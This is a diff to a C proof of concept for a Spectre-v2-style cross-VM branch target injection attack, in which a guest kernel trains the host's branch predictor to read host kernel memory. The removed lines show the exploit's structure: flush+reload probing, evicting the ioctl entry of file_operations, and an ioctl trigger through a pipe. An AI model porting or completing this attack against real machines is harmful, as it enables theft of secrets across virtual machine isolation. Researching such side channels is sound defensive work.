@@ -3,25 +3,11 @@
  * as spectre-v2, but the branch that trains the kernel's runs inside, in the guest's kernel, at the
  * very same address. What the target predictor has learned there holds when the machine has been left.
  */
-#include "attack.h"
+#include "spectre-v2.h"
 
-#include <sys/ioctl.h>
-
-#include "evict.h"
-#include "gadget.h"
 #include "machine.h"
-#include "secret.h"
-#include "train.h"
-
-enum {
-	NO_COMMAND = 0x5eed,	/* of no file */
-	IOCTL_IN_TABLE = 0x50,	/* offset in struct file_operations */
-	ATTEMPTS = 2,
-};
 
 static struct machine machine;
-static const uint8_t *array;
-static int file;
 
 /* Inside: branches, how many, where they are to lead, and the pages that they lie in. */
 static uint64_t branches[MOST_ADDRESSES], disclosure;
@@ -60,43 +46,15 @@ static void choose(uint64_t address)
 
 static int read_byte(uint64_t address)
 {
-	const uint8_t *probe = array + SHARED_PROBE;
-
-	flush_probe(probe);
-	evict(options.slow + IOCTL_IN_TABLE, second_level_pages);
+	make_call_late();
 	machine_run(&machine, train_inside);
-	leave_history(next_random());
-	ioctl(file, NO_COMMAND, address);
-	return reload_probe(probe);
-}
-
-/* As in spectre-v2: the first attempt may be spent on the walk for the secret's address. */
-static int sample(int index)
-{
-	int value = NOTHING;
-
-	if (options.service)
-		use_secret(index);
-	for (int i = 0; i < ATTEMPTS && value == NOTHING; i++)
-		value = read_byte(options.address + index);
-	return value;
+	return call_with(address);
 }
 
 int main(int argc, char **argv)
 {
-	int pipes[2];
-
 	parse_options(argc, argv);
-	if (!options.address || !options.branches.count || !options.disclosures.count)
-		errx(2, "expected --address, --branch and --disclosure");
-	if (options.service)
-		open_secret();
-	array = map_gadget(options.gadget);
-	calibrate();
-	prepare_eviction();
-	if (pipe(pipes))
-		err(1, "pipe");
-	file = pipes[0];
+	prepare_call();
 	count = options.branches.count;
 	machine_create(&machine);
 	for (int i = 0; i < count; i++)
